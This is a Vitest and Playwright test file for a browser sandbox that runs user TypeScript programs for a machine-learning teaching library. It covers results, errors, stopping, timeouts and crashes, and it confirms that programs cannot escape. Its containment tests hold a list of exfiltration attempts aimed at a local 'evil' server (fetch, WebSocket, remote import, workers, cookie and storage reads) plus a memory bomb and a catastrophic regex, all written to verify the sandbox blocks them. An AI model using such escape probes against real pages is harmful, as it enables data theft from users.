/** Programs in a real browser: what they give back, how they fail, how they are stopped, and what they cannot reach. */
import { createServer } from 'node:http';
import { text as textOf } from 'node:stream/consumers';
import { resolve } from 'node:path';
import { rolldown } from 'rolldown';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, test } from 'vitest';
import type { Browser, Page } from 'playwright-core';
import type { Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { bootHash } from '../../src/runtime/boot.ts';
import { keptGlobals } from '../../src/runtime/globals.ts';
import { bundleLibrary } from '../../src/runtime/library.ts';
import { transpile } from '../../src/runtime/transpile.ts';
import type { Program, Progress, Recording, Shown } from '../../src/runtime/protocol.ts';
import type { createRunner, Run, RunHandlers, Runner } from '../../src/runtime/sandbox.ts';
import { launch } from './chromium.ts';

/** What the served page puts on its window. */
interface Stage {
  createRunner: typeof createRunner;
  runner: Runner;
  current: Run;
  shown: Shown[];
  progress: Progress[];
}
declare const window: Stage & typeof globalThis;

const policy = [
  "default-src 'self'",
  `script-src 'self' ${bootHash} 'wasm-unsafe-eval' blob:`,
  "worker-src 'self' blob:",
  "style-src 'self' 'unsafe-inline'",
  "object-src 'none'",
  "base-uri 'self'",
].join('; ');

const script = `
import { createRunner } from './sandbox.js';
window.createRunner = createRunner;
window.runner = createRunner({ library: async () => (await fetch('library.json')).text() });
window.shown = [];
window.progress = [];
`;

async function listen(server: Server): Promise<string> {
  await new Promise<void>((ready) => server.listen(0, '127.0.0.1', ready));
  return `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
}

async function bundleSandbox(): Promise<string> {
  const build = await rolldown({
    input: resolve(import.meta.dirname, '../../src/runtime/sandbox.ts'),
    platform: 'browser',
  });
  const { output } = await build.generate({ format: 'esm' });
  await build.close();
  return output[0].code;
}

/** Takes what the page posts to `report`. */
let onReport: (text: string) => void = () => undefined;

let site: Server;
let origin: string;
let browser: Browser;
let page: Page;
let noise: string[];

beforeAll(async () => {
  const html = (head: string): string =>
    `<!doctype html><html lang="en"><head><meta charset="utf-8">${head}<title>Test</title></head><body></body></html>`;
  const files: Record<string, [type: string, text: string]> = {
    '/': [
      'text/html',
      html(
        `<meta http-equiv="content-security-policy" content="${policy}"><script type="module" src="page.js"></script>`,
      ),
    ],
    '/strict': [
      'text/html',
      html(
        `<meta http-equiv="content-security-policy" content="default-src 'self'"><script type="module" src="page.js"></script>`,
      ),
    ],
    '/open': ['text/html', html('')],
    '/page.js': ['text/javascript', script],
    '/sandbox.js': ['text/javascript', await bundleSandbox()],
    '/library.json': ['application/json', await bundleLibrary()],
    '/favicon.ico': ['image/x-icon', ''],
  };
  site = createServer((request, response) => {
    if (request.url === '/report') void textOf(request).then((report) => onReport(report));
    const [type, text] = files[request.url ?? ''] ?? ['text/plain', undefined];
    response.writeHead(text === undefined ? 404 : 200, { 'content-type': type }).end(text ?? 'not found');
  });
  origin = await listen(site);
  browser = await launch();
});

afterAll(async () => {
  await browser?.close();
  site?.close();
});

async function open(path = '/'): Promise<Page> {
  const context = await browser.newContext();
  const opened = await context.newPage();
  opened.on('console', (message) => noise.push(`${message.type()}: ${message.text()}`));
  opened.on('pageerror', (error) => noise.push(String(error)));
  await opened.goto(origin + path);
  return opened;
}

beforeEach(async () => {
  noise = [];
  page = await open();
  await page.waitForFunction(() => 'runner' in window);
});

afterEach(async () => {
  await page.context().close();
});

function programOf(source: string, rest: Partial<Program> = {}): Program {
  return { js: transpile(source), settings: {}, limit: 20_000, ...rest };
}

function run(source: string, rest: Partial<Program> = {}): Promise<Recording> {
  return page.evaluate((program) => window.runner.run(program).finished, programOf(source, rest));
}

/** The beginning of programs that train: a line through points, some microseconds a step. */
const trainer = `import { halfSquaredError, line, linear, sgd, sweep, train } from 'weight-decay';
const data = line({ slope: 2, noise: 1, count: 10, seed: 1 });
function trainFor(steps: number): void {
  const model = linear(1);
  const optimizer = sgd(model.parameters, { learningRate: 0.1 });
  for (const _ of train({ model, data, loss: halfSquaredError, optimizer, steps }));
}`;

/** Starts a program and leaves it running. */
async function start(source: string, rest: Partial<Program> = {}): Promise<void> {
  await page.evaluate(
    (program) => {
      const handlers: RunHandlers = {
        onUpdate: (shown) => void window.shown.push(shown),
        onProgress: (progress) => void window.progress.push(progress),
      };
      window.current = window.runner.run(program, handlers);
    },
    programOf(source, rest),
  );
}

function stop(): Promise<Recording> {
  return page.evaluate(() => {
    window.current.stop();
    return window.current.finished;
  });
}

describe('a program', () => {
  test('gives its figure, console, results and claims', async () => {
    const recording = await run(
      `import { plot, slider } from 'weight-decay/plot';
const lambda: number = slider('λ', 0.1, { min: 0, max: 1 });
for (let i = 0; i < 3; i++) plot.line('loss', i, lambda * i);
console.log('λ', lambda);
console.table([{ a: 1 }]);
export const weights = new Float64Array([1, NaN, Infinity]);
export const square = (x: number): number => x * x;`,
      {
        settings: { λ: 0.5 },
        claims: transpile(
          `export default [{ id: 'a', en: 'A', zh: '甲', holds: (r: any) => r.square(3) === 9, measured: (r: any) => String(r.weights[0]) }];`,
        ),
        check: transpile(`export default (r: any) => ({ passed: r.square(2) === 4, en: 'Yes', zh: '对' });`),
      },
    );
    expect(recording.error).toBeUndefined();
    expect(recording.figure.charts[0].series[0]).toEqual({
      key: 'loss',
      mark: 'line',
      x: [0, 1, 2],
      y: [0, 0.5, 1],
    });
    expect(recording.figure.controls[0]).toMatchObject({
      kind: 'slider',
      key: 'λ',
      value: 0.5,
      initial: 0.1,
    });
    expect(recording.console.map((line) => line.text)).toEqual(['λ 0.5', '   a\n0  1']);
    expect(recording.results).toEqual({ weights: [1, NaN, Infinity] });
    expect(recording.claims).toEqual([{ id: 'a', en: 'A', zh: '甲', holds: true, measured: '1' }]);
    expect(recording.check).toEqual({ passed: true, en: 'Yes', zh: '对' });
    expect(noise).toEqual([]);
  });

  test('can import both libraries, and run many times in the same frame', async () => {
    const source = `import * as trainer from 'weight-decay';
import * as plot from 'weight-decay/plot';
export const count = Object.keys(trainer).length;
export const names = Object.keys(plot);
export const chance = Math.random();`;
    const first = await run(source);
    expect(first.error).toBeUndefined();
    expect(first.results['count']).toBeGreaterThan(0);
    for (let i = 0; i < 3; i++) expect((await run(source)).results).toEqual(first.results);
    expect(await page.locator('iframe').count()).toBe(1);
  });

  test('shows what there is while it loops', async () => {
    await start(`import { plot } from 'weight-decay/plot';
console.log('before');
for (let i = 0; ; i++) plot.line('step', i, i);`);
    await page.waitForFunction(() => (window.shown.at(-1)?.figure.charts[0]?.series[0].x.length ?? 0) > 1000);
    const recording = await stop();
    expect(recording.error?.kind).toBe('stopped');
    expect(recording.console).toEqual([{ level: 'log', text: 'before', count: 1 }]);
    expect(recording.figure.charts).toHaveLength(1);
  });

  test('tells how far it is, although it shows nothing and never yields', async () => {
    await start(`${trainer}\ntrainFor(1e9);`);
    await page.waitForFunction(() => (window.progress.at(-1)?.ms ?? 0) > 1000);
    const recording = await stop();
    expect(recording.error?.kind).toBe('stopped');
    const [progress, shown] = await page.evaluate(() => [window.progress, window.shown]);
    expect(shown).toEqual([]);
    expect(progress.length).toBeGreaterThan(5);
    // At most one each 50 ms.
    expect(progress.length).toBeLessThan((progress.at(-1)?.ms ?? 0) / 50 + 2);
    const done = progress.map((one) => one.done);
    expect(done).toEqual([...done].sort((a, b) => a - b));
    const last = progress[progress.length - 1];
    expect(last).toMatchObject({ type: 'progress', unit: 'steps', total: 1e9, part: 1 });
    expect(last.rate).toBeGreaterThan(1000);
    expect(last.left).toBeGreaterThan(1000);
  });

  test('is stopped in the middle of a sweep', async () => {
    await start(`${trainer}
const x = Array.from({ length: 1000 }, (_, i) => i);
await sweep({ x }, () => (trainFor(3e5), {}));`);
    await page.waitForFunction(() => (window.progress.at(-1)?.done ?? 0) >= 2);
    const last = await page.evaluate(() => window.progress[window.progress.length - 1]);
    expect(last).toMatchObject({ unit: 'runs', total: 1000, part: 1 });
    expect((await stop()).error?.kind).toBe('stopped');
    const heard = await page.evaluate(() => window.progress.length);
    await new Promise((resolve) => setTimeout(resolve, 300));
    expect(await page.evaluate(() => window.progress.length)).toBe(heard);
    expect((await run('export const a = 1;')).results).toEqual({ a: 1 });
  });

  test('starts later than another one that it stops', async () => {
    const [first, second] = await page.evaluate(
      async ([endless, quick]) => {
        const one = window.runner.run(endless).finished;
        return [await Promise.all([one, window.runner.run(quick).finished])].flat();
      },
      [programOf('while (true) {}'), programOf('export const a = 1;')],
    );
    expect(first.error?.kind).toBe('stopped');
    expect(second.results).toEqual({ a: 1 });
    expect(await page.locator('iframe').count()).toBe(1);
  });
});

describe('an error', () => {
  test('has the line of the TypeScript', async () => {
    const { error, console: lines } = await run(`interface Unused {
  a: number;
}
console.log('before');
const fail = (value: number): never => {
  throw new TypeError('no ' + value);
};
fail(3);`);
    expect(error).toEqual({
      kind: 'runtime',
      name: 'TypeError',
      message: 'no 3',
      line: 6,
      column: expect.any(Number),
    });
    expect(lines).toHaveLength(1);
  });

  test('from the library has the line of the call', async () => {
    const { error } = await run(`import { slider } from 'weight-decay/plot';

slider('λ', 5, { min: 0, max: 1 });`);
    expect(error).toMatchObject({ kind: 'runtime', name: 'RangeError', line: 3 });
  });

  test('in an import names the library', async () => {
    const { error } = await run(`import {
  plot,
  nothing,
} from 'weight-decay/plot';
plot; nothing;`);
    expect(error).toMatchObject({ kind: 'syntax', line: 3 });
    expect(error?.message).toContain("'weight-decay/plot'");
  });

  test.each([
    ['a thrown string', `throw 'text';`, 'text', 1],
    ['a thrown object', `throw { a: 1 };`, '{ a: 1 }', 1],
    [
      'an error with hostile getters',
      `throw Object.defineProperty(new Error('x'), 'message', { get() { throw 1; } });`,
      '',
      1,
    ],
    [
      'a timer',
      `setTimeout(() => {\n  throw new Error('late');\n}, 0);\nawait new Promise(() => {});`,
      'late',
      2,
    ],
    ['a promise that nothing awaits', `const a = 1;\nPromise.reject(new Error('left'));`, 'left', 2],
  ])('%s', async (_, source, message, line) => {
    const { error } = await run(source);
    expect(error?.kind).toBe('runtime');
    expect(error?.message).toBe(message);
    if (error?.line !== undefined) expect(error.line).toBe(line);
  });

  test('of recursion without end', async () => {
    const { error } = await run('const f = (): number => 1 +\n  f();\nf();');
    expect(error).toMatchObject({ kind: 'runtime', name: 'RangeError' });
    expect(error?.line).toBeGreaterThanOrEqual(1);
  });

  test('of the library that cannot be loaded', async () => {
    const [failed, next] = await page.evaluate(async (program) => {
      let tries = 0;
      const library = async (): Promise<string> => {
        if (++tries === 1) throw new Error('offline');
        return (await fetch('library.json')).text();
      };
      const runner = window.createRunner({ library });
      return [await runner.run(program).finished, await runner.run(program).finished];
    }, programOf('export const a = 1;'));
    expect(failed.error).toMatchObject({ kind: 'crash', message: 'offline' });
    expect(next.results).toEqual({ a: 1 });
  });
});

describe('the sandbox', () => {
  test('of a broken library says so, and the next one works', async () => {
    const [ready, failed, next] = await page.evaluate(async (program) => {
      const text = await (await fetch('library.json')).text();
      let tries = 0;
      const library = async (): Promise<string> =>
        ++tries <= 1
          ? JSON.stringify({ ...(JSON.parse(text) as object), 'weight-decay': 'throw new Error("broken")' })
          : text;
      const broken = window.createRunner({ library });
      const ready = await broken.prepare().then(() => 'ready', String);
      const failed = await broken.run(program).finished;
      const next = await window.runner.run(program).finished;
      return [ready, failed, next] as const;
    }, programOf('export const a = 1;'));
    expect(ready).toContain('broken');
    expect(failed.error).toMatchObject({ kind: 'crash', message: expect.stringContaining('broken') });
    expect(next.results).toEqual({ a: 1 });
  });

  test('that cannot start under the page’s policy says so', async () => {
    const context = await browser.newContext();
    const strict = await context.newPage();
    await strict.goto(`${origin}/strict`);
    await strict.waitForFunction(() => 'runner' in window);
    const recording = await strict.evaluate((program) => window.runner.run(program).finished, programOf(''));
    expect(recording.error).toMatchObject({ kind: 'crash', message: 'The sandbox did not start' });
    await context.close();
  });

  test('that died while nothing ran is replaced', async () => {
    const tab = await open();
    await tab.waitForFunction(() => 'runner' in window);
    await tab.evaluate((program) => window.runner.run(program).finished, programOf('export const a = 1;'));
    const report = new Promise<string>((settle) => (onReport = settle));
    // Later than the crash, after which the driver no longer speaks to the page.
    await tab.evaluate((program) => {
      setTimeout(() => {
        void window.runner
          .run(program)
          .finished.then((recording) => fetch('report', { method: 'POST', body: JSON.stringify(recording) }));
      }, 1000);
    }, programOf('export const a = 2;'));
    const session = await tab.context().newCDPSession(tab.frames()[1]);
    void session.send('Page.crash').catch(() => undefined);
    expect((JSON.parse(await report) as Recording).results).toEqual({ a: 2 });
    await tab.context().close();
  });
});

describe('a program without end', () => {
  const endless = {
    'a loop': 'console.log("before"); while (true) {}',
    microtasks: 'console.log("before"); const f = () => Promise.resolve().then(f); f();',
    'a regular expression': 'console.log("before"); /^(a+)+$/.test("a".repeat(40) + "b");',
    timers: 'console.log("before"); setInterval(() => {}, 1); await new Promise(() => {});',
    'a flood': 'console.log("before"); for (let i = 0; ; i++) console.log(i);',
  };

  test.each(Object.entries(endless))('%s leaves the page alive and can be stopped', async (_, source) => {
    await start(source);
    await page.waitForFunction(() => window.shown.length > 0);
    const longest = await page.evaluate(async () => {
      let longest = 0;
      let last = performance.now();
      const timer = setInterval(() => {
        longest = Math.max(longest, performance.now() - last);
        last = performance.now();
      }, 10);
      await new Promise((resolve) => setTimeout(resolve, 1000));
      clearInterval(timer);
      return longest;
    });
    expect(longest).toBeLessThan(500);
    const recording = await stop();
    expect(recording.error?.kind).toBe('stopped');
    expect(recording.console[0].text).toBe('before');
    expect(await page.locator('iframe').count()).toBe(0);
    expect((await run('export const a = 1;')).results).toEqual({ a: 1 });
  });

  test('ends at its time limit, which can be moved', async () => {
    const short = await run('while (true) {}', { limit: 300 });
    expect(short.error?.kind).toBe('timeout');
    const moved = await page.evaluate(
      async (program) => {
        const warnings: number[] = [];
        const run = window.runner.run(program, {
          onLimitNear(left) {
            warnings.push(left);
            if (warnings.length === 1) run.extend(600);
          },
        });
        const { error, ms } = await run.finished;
        return { error, ms, warnings };
      },
      programOf('while (true) {}', { limit: 300 }),
    );
    expect(moved.error?.kind).toBe('timeout');
    expect(moved.warnings).toHaveLength(2);
    expect(moved.ms).toBeGreaterThan(800);
  });

  test('is reported after five seconds of silence', async () => {
    const silences = await page.evaluate(async (program) => {
      let silences = 0;
      const run = window.runner.run(program, { onSilence: () => void silences++ });
      await new Promise((resolve) => setTimeout(resolve, 6000));
      run.stop();
      return silences;
    }, programOf('while (true) {}'));
    expect(silences).toBe(1);
  });

  test('is not called silent while it trains', async () => {
    const silences = await page.evaluate(
      async (program) => {
        let silences = 0;
        const run = window.runner.run(program, { onSilence: () => void silences++ });
        await new Promise((resolve) => setTimeout(resolve, 6000));
        run.stop();
        return silences;
      },
      programOf(`${trainer}\ntrainFor(1e9);`),
    );
    expect(silences).toBe(0);
  });

  test('prints a thousand lines of 200 000', async () => {
    const { console: lines, dropped, error } = await run('for (let i = 0; i < 200_000; i++) console.log(i);');
    expect(error).toBeUndefined();
    expect(lines).toHaveLength(1000);
    expect(dropped).toBe(199_000);
  });

  test('that eats all memory ends as a crash, and the next run works', async () => {
    const small = await launch('--js-flags=--max-old-space-size=200');
    try {
      const context = await small.newContext();
      const tab = await context.newPage();
      await tab.goto(origin);
      await tab.waitForFunction(() => 'runner' in window);
      // The driver takes the crash of a frame for the page's, so the page itself tells how it goes on.
      const report = new Promise<string>((settle) => (onReport = settle));
      await tab.evaluate(
        ([bomb, quick]) => {
          const both = async (): Promise<Recording[]> => [
            await window.runner.run(bomb).finished,
            await window.runner.run(quick).finished,
          ];
          void both().then((recordings) =>
            fetch('report', { method: 'POST', body: JSON.stringify(recordings) }),
          );
        },
        [
          programOf(
            'const all: object[] = [];\nwhile (true) all.push(Array.from({ length: 1e5 }, () => ({})));',
          ),
          programOf('export const a = 1;'),
        ],
      );
      const [crashed, next] = JSON.parse(await report) as Recording[];
      expect(crashed.error?.kind).toBe('crash');
      expect(next.results).toEqual({ a: 1 });
    } finally {
      await small.close();
    }
  });
});

describe('a program cannot reach', () => {
  let outside: Server;
  let evil: string;
  let hits: string[];

  beforeAll(async () => {
    outside = createServer((request, response) => {
      hits.push(request.url ?? '');
      const type = request.url?.endsWith('.js') ? 'text/javascript' : 'text/plain';
      response.writeHead(200, { 'access-control-allow-origin': '*', 'content-type': type }).end('');
    });
    outside.on('upgrade', (request, socket) => {
      hits.push(request.url ?? '');
      socket.destroy();
    });
    evil = await listen(outside);
  });
  beforeEach(() => (hits = []));
  afterAll(() => outside?.close());

  /** Worker code that tries every way out that a browser knows, and gives the outcomes by name. */
  const attempts = (evil: string, own: string): string => `
const evil = ${JSON.stringify(evil)}, own = ${JSON.stringify(own)};
const settled = (target, good, bad) => new Promise((resolve, reject) => {
  target[good] = () => resolve();
  target[bad] = () => reject(new Error('failed'));
});
const attempts = {
  fetch: () => fetch(evil + '/fetch'),
  'fetch without cors': () => fetch(evil + '/fetch-no-cors', { mode: 'no-cors' }),
  'fetch kept alive': () => fetch(evil + '/fetch-keepalive', { keepalive: true, mode: 'no-cors' }),
  'fetch of the site': () => fetch(own + '/library.json'),
  XMLHttpRequest: () => { const x = new XMLHttpRequest(); x.open('GET', evil + '/xhr'); x.send(); return settled(x, 'onload', 'onerror'); },
  WebSocket: () => { const s = new WebSocket(evil.replace('http', 'ws') + '/socket'); return settled(s, 'onopen', 'onerror'); },
  EventSource: () => { const s = new EventSource(evil + '/events'); return settled(s, 'onopen', 'onerror'); },
  WebTransport: () => new WebTransport(evil.replace('http', 'https') + '/transport').ready,
  import: () => import(evil + '/import.js'),
  'import of data': () => { const address = 'data:text/javascript,export const a = 1'; return import(address); },
  importScripts: () => importScripts(evil + '/scripts.js'),
  'a worker from outside': () => { const w = new Worker(evil + '/worker.js'); return settled(w, 'onmessage', 'onerror'); },
  'a worker inside': () => { const w = new Worker(URL.createObjectURL(new Blob(['fetch("' + evil + '/nested").then(() => postMessage(1), () => { throw 1; })']))); return new Promise((resolve, reject) => { w.onmessage = resolve; w.onerror = reject; }); },
  eval: () => eval('1'),
  Function: () => new Function('return 1')(),
  localStorage: () => localStorage.length,
  cookies: () => { if (!document.cookie.length) throw new Error('none'); },
  cookieStore: () => cookieStore.getAll(),
  indexedDB: () => settled(indexedDB.open('leak'), 'onsuccess', 'onerror'),
  caches: () => caches.open('leak'),
  files: () => navigator.storage.getDirectory(),
  'the page': () => parent.document.title,
  BroadcastChannel: () => { new BroadcastChannel('leak').postMessage('leak'); throw new Error('unknown'); },
};
const outcomes = {};
await Promise.all(Object.entries(attempts).map(async ([name, attempt]) => {
  const late = new Promise((_, reject) => setTimeout(() => reject(new Error('timeout')), 1000));
  try { await Promise.race([late, attempt()]); outcomes[name] = 'open'; } catch (error) { outcomes[name] = 'shut'; }
}));
`;

  test('anything, by policy, even with all of the browser at hand', async () => {
    const worker = `let calls = 0; onmessage = async () => { if (++calls === 1) { postMessage('ready'); return; }
postMessage('started'); ${attempts(evil, origin)}; postMessage({ type: 'done', results: outcomes, claims: [], ms: 0 }); };`;
    const { results, heard } = await page.evaluate(async (runtime) => {
      let heard = 0;
      new BroadcastChannel('leak').onmessage = () => void heard++;
      const library = async (): Promise<string> => JSON.stringify({ runtime });
      const runner = window.createRunner({ library });
      const { results } = await runner.run({ js: '', settings: {}, limit: 20_000 }).finished;
      return { results, heard };
    }, worker);
    expect(Object.keys(results).length).toBeGreaterThan(20);
    expect(Object.entries(results).filter(([, outcome]) => outcome !== 'shut')).toEqual([]);
    expect(hits).toEqual([]);
    expect(heard).toBe(0);
  });

  test('what could reach it, since that is gone', async () => {
    const { results, error } = await run(`${attempts(evil, origin)}
export const open = Object.keys(outcomes).filter((name) => outcomes[name] === 'open');
const owners = [];
for (let holder = globalThis; holder !== null; holder = Object.getPrototypeOf(holder)) owners.push(holder);
export const left = owners.slice(0, -1).flatMap((holder) => Object.getOwnPropertyNames(holder)).sort();
export const reachable = ['postMessage', 'close', 'addEventListener', 'dispatchEvent', 'onmessage', 'constructor', 'fetch', 'Worker', 'navigator', 'location', 'URL', 'Blob'].filter((name) => globalThis[name] !== undefined && globalThis[name] !== Object);`);
    expect(error).toBeUndefined();
    expect(results['open']).toEqual([]);
    expect(results['reachable']).toEqual([]);
    // Chromium's two constants cannot be deleted.
    const left = (results['left'] as string[]).filter((name) => !/^(?:PERSISTENT|TEMPORARY)$/.test(name));
    expect(left.filter((name) => !keptGlobals.has(name))).toEqual([]);
    expect(left.length).toBeGreaterThan(50);
    expect(hits).toEqual([]);
  });

  test('(control: without frame and policy the same attempts arrive)', async () => {
    const control = await open('/open');
    const outcomes = await control.evaluate(
      (code) =>
        new Promise<Record<string, string>>((settle) => {
          const text = `(async () => { ${code}; postMessage(outcomes); })()`;
          const worker = new Worker(URL.createObjectURL(new Blob([text])));
          worker.onmessage = ({ data }) => settle(data as Record<string, string>);
        }),
      attempts(evil, origin),
    );
    for (const name of [
      'fetch',
      'fetch of the site',
      'XMLHttpRequest',
      'import',
      'import of data',
      'eval',
      'indexedDB',
    ]) {
      expect([name, outcomes[name]]).toEqual([name, 'open']);
    }
    for (const path of [
      '/fetch',
      '/fetch-no-cors',
      '/xhr',
      '/socket',
      '/events',
      '/import.js',
      '/scripts.js',
      '/nested',
    ]) {
      expect(hits).toContain(path);
    }
    await control.context().close();
  });

  test('the page through what it sends', async () => {
    const { recording, heard } = await page.evaluate(async () => {
      const heard: Progress[] = [];
      const runtime = `let calls = 0; onmessage = () => { if (++calls === 1) { postMessage('ready'); return; }
postMessage('started');
postMessage({ type: 'update', from: 0, lines: [{ level: 'log', text: 'x'.repeat(1e6), count: 1 }], dropped: 0 });
postMessage({ type: 'update', from: 5e8, lines: [], dropped: 0 });
postMessage({ type: 'update', from: 0, lines: [], dropped: 0, figure: { charts: [{ key: '', axes: {}, series: [{ key: { toString: 1 }, mark: 'line', x: [], y: [] }] }], controls: [] } });
postMessage({ type: 'progress', unit: 'steps', part: 1, done: 2, total: 1, ms: 0 });
postMessage({ type: 'progress', unit: '<b>', part: 1, done: 1, total: 2, ms: 0 });
postMessage({ type: 'progress', unit: 'steps', part: 1, done: 1, total: 2, ms: 0, left: Infinity });
postMessage({ type: 'progress', unit: 'steps', part: 1, done: 1, total: 2, ms: 0, html: '<b>' });
postMessage({ type: 'update', from: 0, lines: [{ level: 'log', text: 'fine', count: 1, html: '<b>' }], dropped: 0 });
postMessage({ type: 'done', results: { a: 1, b: new Blob([]), c: [new Map([[1, 2]])] }, claims: [], ms: 0 }); };`;
      const runner = window.createRunner({ library: async () => JSON.stringify({ runtime }) });
      const handlers: RunHandlers = { onProgress: (progress) => void heard.push(progress) };
      return {
        recording: await runner.run({ js: '', settings: {}, limit: 5000 }, handlers).finished,
        heard,
      };
    });
    expect(heard).toEqual([{ type: 'progress', unit: 'steps', part: 1, done: 1, total: 2, ms: 0 }]);
    expect(recording.console).toEqual([{ level: 'log', text: 'fine', count: 1 }]);
    expect(recording.figure).toEqual({ charts: [], controls: [] });
    expect(recording.results['a']).toBe(1);
    expect(recording.results['c']).toEqual([[[1, 2]]]);
  });
});
